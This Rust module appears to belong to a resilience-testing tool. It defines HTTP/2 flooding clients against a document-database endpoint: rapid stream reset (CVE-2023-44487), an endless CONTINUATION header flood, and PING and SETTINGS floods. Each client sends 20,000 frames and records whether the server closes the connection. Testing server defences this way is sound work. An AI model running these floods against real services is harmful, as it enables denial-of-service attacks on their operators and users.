//! Clients that make HTTP/2 work for nothing.

use std::sync::Arc;

use crate::attack::Outcome;
use crate::http2::{Connection, ReceivedFrame};
use crate::target::{CONTAINER, DATABASE, LARGE_ITEM, Target};

/// The frames of one round. A server that limits frames ends the connection much earlier.
const FRAMES_A_ROUND: usize = 20_000;
/// The default window of HTTP/2.
const WINDOW: u32 = 65_535;

/// Opens streams and cancels each at once ("rapid reset", CVE-2023-44487).
pub(super) async fn reset_streams(target: Arc<Target>) -> Outcome {
    let Ok(mut connection) = Connection::open(target.address, WINDOW).await else {
        return Outcome::NotConnected;
    };
    let path = format!("/dbs/{DATABASE}/colls/{CONTAINER}/docs/{LARGE_ITEM}");
    let host = target.address.to_string();
    // The headers carry no credential: the attack costs the server work before any authorization.
    let headers = [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", host.as_str()),
        (":path", path.as_str()),
    ];
    for _ in 0..FRAMES_A_ROUND {
        let Ok(stream) = connection.request(&headers, None).await else {
            return Outcome::Closed;
        };
        if connection.reset(stream).await.is_err() {
            return Outcome::Closed;
        }
    }
    until_goaway(connection).await
}

/// Sends one header block that never ends (the "CONTINUATION flood").
pub(super) async fn endless_headers(target: Arc<Target>) -> Outcome {
    let Ok(mut connection) = Connection::open(target.address, WINDOW).await else {
        return Outcome::NotConnected;
    };
    let Ok(stream) = connection.begin_headers().await else {
        return Outcome::Closed;
    };
    for _ in 0..FRAMES_A_ROUND {
        if connection.continue_headers(stream).await.is_err() {
            return Outcome::Closed;
        }
    }
    until_goaway(connection).await
}

/// Sends PING frames and reads none of the acknowledgements, which the server must queue.
pub(super) async fn pings(target: Arc<Target>) -> Outcome {
    let Ok(mut connection) = Connection::open(target.address, WINDOW).await else {
        return Outcome::NotConnected;
    };
    for _ in 0..FRAMES_A_ROUND {
        if connection.ping().await.is_err() {
            return Outcome::Closed;
        }
    }
    until_goaway(connection).await
}

/// Sends SETTINGS frames, each of which the server must acknowledge.
pub(super) async fn settings(target: Arc<Target>) -> Outcome {
    let Ok(mut connection) = Connection::open(target.address, WINDOW).await else {
        return Outcome::NotConnected;
    };
    for _ in 0..FRAMES_A_ROUND {
        if connection.settings().await.is_err() {
            return Outcome::Closed;
        }
    }
    until_goaway(connection).await
}

/// Reads until the server says GOAWAY or closes the connection.
async fn until_goaway(mut connection: Connection) -> Outcome {
    while let Ok(received) = connection.receive().await {
        if matches!(received, ReceivedFrame::GoAway) {
            break;
        }
    }
    Outcome::Closed
}
